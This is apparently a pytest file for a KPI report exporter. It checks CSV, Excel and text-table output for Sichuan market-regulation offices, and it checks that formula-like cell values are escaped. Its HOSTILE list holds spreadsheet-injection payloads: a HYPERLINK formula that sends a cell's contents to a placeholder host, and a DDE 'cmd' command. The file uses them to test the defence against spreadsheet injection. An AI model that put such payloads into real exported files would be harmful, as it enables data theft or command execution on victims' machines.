"""CSV, workbook and terminal renderings of a report document."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kpi.exports import FORMULA_TRIGGERS, to_csv, to_table, to_xlsx
from kpi.metrics import RowCounts, build_row
from kpi.policies import DEFAULT
from kpi.scoring import rank_rows


def document() -> dict[str, Any]:
    a = RowCounts(received=2, replied=1, reply_owed=2, recovered_cents=10050)
    a.obligations["C_ACCEPT"] = [1, 1, 0]
    rows = rank_rows([
        build_row({"code": "510800", "name": "广元市市场监督管理局", "level": 3}, a, DEFAULT),
        build_row({"code": "510100", "name": "成都市市场监督管理局", "level": 3}, RowCounts(), DEFAULT),
    ])
    total = build_row({"code": "510000", "name": "四川省市场监督管理局", "level": 2}, a, DEFAULT)
    return {
        "unit": {"code": "510000", "name": "四川省市场监督管理局", "level": 2}, "level": 3,
        "from": "2024-01-01", "to": "2024-03-31", "as_of": "2024-06-30T23:59:59+08:00", "scheme": "default",
        "calendar_complete": False, "policy_versions": ["order-20"], "total": total, "rows": rows,
    }


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with the UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_one_line_per_row_then_the_total() -> None:
    lines = read_csv(to_csv(document()))
    assert [(r["row"], r["unit_code"]) for r in lines] == [("unit", "510800"), ("unit", "510100"), ("total", "510000")]
    assert lines[0]["timeliness_rate"] == "0.5" and lines[0]["reply_rate"] == "0.5"
    assert lines[0]["timeliness_by_obligation.C_ACCEPT.late"] == "1"
    assert lines[1]["score"] == "" and lines[1]["rank"] == "" and lines[1]["recovered_amount"] == "0.00"
    assert lines[0]["received_by_channel.GOV_HOTLINE_TRANSFER"] == "0"


def sheet(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def test_workbook_for_people() -> None:
    wb = sheet(to_xlsx(document(), DEFAULT.weights))
    assert wb.sheetnames == ["报表 Report", "参数 Parameters"]
    ws = wb["报表 Report"]
    headers = {ws.cell(row=1, column=c).value: c for c in range(1, ws.max_column + 1)}
    assert ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=ws.max_column).column_letter}3"  # header + 2 units
    assert ws.cell(row=2, column=1).value == "510800"  # one header row: data starts on row 2
    rate = ws.cell(row=2, column=headers["综合按时率"])
    assert rate.value == 0.5 and rate.number_format == "0.00%"
    assert ws.cell(row=2, column=headers["受理总量"]).number_format == "#,##0"
    assert ws.cell(row=2, column=headers["挽回经济损失(元)"]).number_format == "#,##0.00"
    assert ws.cell(row=2, column=headers["单位名称"]).value == "广元市市场监督管理局"
    assert str(ws.cell(row=4, column=2).value).startswith("合计")
    charts = ws._charts  # type: ignore[attr-defined]
    assert len(charts) == 1 and charts[0].x_axis.delete is False and charts[0].y_axis.delete is False
    params = {row[1]: row[2] for row in wb["参数 Parameters"].iter_rows(min_row=2, values_only=True) if row[1]}
    assert params["policy_versions"] == "order-20"
    assert str(params["calendar_complete"]).startswith("否")
    assert "timeliness_rate 40" in str(params["scheme"])
    assert params["from"] == datetime(2024, 1, 1) and params["as_of"] == datetime(2024, 6, 30, 23, 59, 59)
    keys = {row[0]: row[1] for row in wb["参数 Parameters"].iter_rows(values_only=True)}
    assert keys["综合按时率"] == "timeliness_rate" and keys["单位代码"] == "unit_code"
    assert keys["投诉按时受理率"] == "timeliness_by_obligation.C_ACCEPT.rate"
    assert set(read_csv(to_csv(document()))[0]) >= {keys[h] for h in headers}  # every key is a CSV column


def test_empty_report_has_a_note_not_a_chart() -> None:
    doc = document()
    doc["rows"] = [dict(r, score=None, rank=None, received=0) for r in doc["rows"]]
    doc["total"] = dict(doc["total"], received=0)
    ws = sheet(to_xlsx(doc, DEFAULT.weights))["报表 Report"]
    assert not ws._charts  # type: ignore[attr-defined]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("没有受理记录" in t for t in texts)


HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&B2,"市局")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "=1", "+", "-", "@",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_cells_that_look_like_formulas_are_literal_text(name: str) -> None:
    doc = document()
    doc["rows"][0] = dict(doc["rows"][0], unit={"code": name, "name": name, "level": 3})
    line = read_csv(to_csv(doc))[0]
    assert line["unit_name"] == "'" + name and line["unit_code"] == "'" + name
    ws = sheet(to_xlsx(doc, DEFAULT.weights))["报表 Report"]
    for col in (1, 2):
        cell = ws.cell(row=2, column=col)
        assert cell.data_type == "s"
        assert cell.value.replace("\n", "\r") == name.replace("\n", "\r")  # XML reads a CR back as LF
        assert cell.quotePrefix
    raw = zipfile.ZipFile(io.BytesIO(to_xlsx(doc, DEFAULT.weights))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw and "<f " not in raw  # no formula anywhere in the sheet


def test_ordinary_text_and_numbers_are_left_alone() -> None:
    doc = document()
    doc["rows"][0] = dict(doc["rows"][0], unit={"code": "510800", "name": "A=B 市局", "level": 3},
                          recovered_amount="-12.50")
    line = read_csv(to_csv(doc))[0]
    assert line["unit_name"] == "A=B 市局" and line["recovered_amount"] == "-12.50"


@given(st.text(min_size=1, max_size=20))
@settings(max_examples=60, deadline=None)
def test_no_text_ever_becomes_a_formula(name: str) -> None:
    doc = document()
    doc["rows"][0] = dict(doc["rows"][0], unit={"code": "510800", "name": name, "level": 3})
    shown = read_csv(to_csv(doc))[0]["unit_name"]
    assert not shown.startswith(FORMULA_TRIGGERS) or shown.startswith("'")
    raw = zipfile.ZipFile(io.BytesIO(to_xlsx(doc, DEFAULT.weights))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw


def test_table_text() -> None:
    text = to_table(document())
    assert "广元市市场监督管理局" in text and "TOTAL" in text and "50.00%" in text
    assert "calendar complete: no" in text
